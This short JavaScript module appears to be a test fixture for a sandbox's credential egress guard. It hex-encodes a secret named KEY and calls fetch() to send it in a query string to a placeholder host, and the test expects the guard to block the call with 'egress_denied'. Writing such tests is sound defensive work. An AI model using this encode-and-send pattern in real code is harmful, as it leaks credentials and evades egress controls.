export const attempt = {
  tries: "to send an exposed value to another host in hexadecimal",
  blockedBecause: "hexadecimal is one of the encodings that are searched",
  ends: { code: "egress_denied", message: "the credential KEY is not allowed for this host" },
  hostUsage: { host: "{other}", reason: "the credential KEY is not allowed for this host" },
  allowedHosts: ["http://{witness}", "http://{other}"],
  keyHosts: ["http://{witness}"],
  keyIsExposed: true,
};

export default async ({ other }, { credentials }) => {
  const hex = [...credentials.KEY].map((c) => c.charCodeAt(0).toString(16).padStart(2, "0"));
  await fetch(`http://${other}/reached?${hex.join("")}`);
  return "got through";
};
